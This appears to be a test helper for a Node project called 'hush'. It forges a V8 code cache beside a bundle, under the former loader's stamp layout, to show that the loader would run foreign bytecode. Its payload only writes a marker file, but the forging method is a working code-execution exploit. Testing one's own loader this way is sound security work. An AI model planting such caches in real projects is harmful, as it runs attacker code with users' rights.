/**
 * The attacker's side of a planted code cache: compiled code for a bundle's file name whose
 * bytecode is not the bundle's. V8 accepts a code cache when the source has the same length and
 * the engine and flags match; it never compares the code itself. A loader that reads such a file
 * from anywhere the repository can write (beside the bundle, under an ignored `dist/` a branch
 * force-adds) runs the attacker's code with the user's rights.
 *
 * The cache is made in a fresh process of the same Node, as an attacker with the same Node
 * version would make it, in every layout a hush loader ever read from the bundle's folder.
 */
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { readFileSync, writeFileSync } from "node:fs";

/** Source as long as `real` that writes `marker` when run (as the top level of a CommonJS file). */
function payloadLike(real: string, marker: string): string {
  const code = `require("node:fs").writeFileSync(${JSON.stringify(marker)}, "planted code ran\\n");`;
  if (code.length + 4 > real.length) throw new Error("bundle too small to imitate");
  return `${code}/*${" ".repeat(real.length - code.length - 4)}*/`;
}

/**
 * Write, beside `bundle`, compiled code that writes `marker` when a loader takes it for `bundle`.
 * @returns the files written (to force-add them to a branch)
 */
export function plantCodeCache(bundle: string, marker: string): string[] {
  const realBytes = readFileSync(bundle);
  // Decoded as the loaders decode it: V8 compares the length in UTF-16 units.
  const fake = payloadLike(realBytes.toString("utf8"), marker);
  const made = spawnSync(
    process.execPath,
    [
      "-e",
      `const vm = require("node:vm"), Module = require("node:module");
       const src = require("node:fs").readFileSync(0, "latin1");
       const data = new vm.Script(Module.wrap(src), { filename: ${JSON.stringify(bundle)} }).createCachedData();
       process.stdout.write(JSON.stringify({ data: data.toString("base64"), v8: process.versions.v8,
         arch: process.arch, version: process.version }));`,
    ],
    { input: fake, encoding: "utf8" },
  );
  if (made.status !== 0) throw new Error(`making the cache failed: ${made.stderr}`);
  const { data, v8, arch, version } = JSON.parse(made.stdout) as Record<string, string>;
  const bytes = Buffer.from(data ?? "", "base64");
  const sha = (b: Uint8Array): string => createHash("sha256").update(b).digest("hex");
  // The layout hush's former loader read (stamp naming the real bundle's digest, then a digest of
  // the data): the stamp proved only that the file was written for this bundle, not by whom.
  const stamp = `hush-code-cache-2\n${sha(realBytes)}\n${version}-${arch}\n${sha(bytes)}\n`;
  const file = `${bundle}.${arch}-v8-${v8}.cache`;
  writeFileSync(file, Buffer.concat([Buffer.from(stamp, "latin1"), bytes]));
  return [file];
}
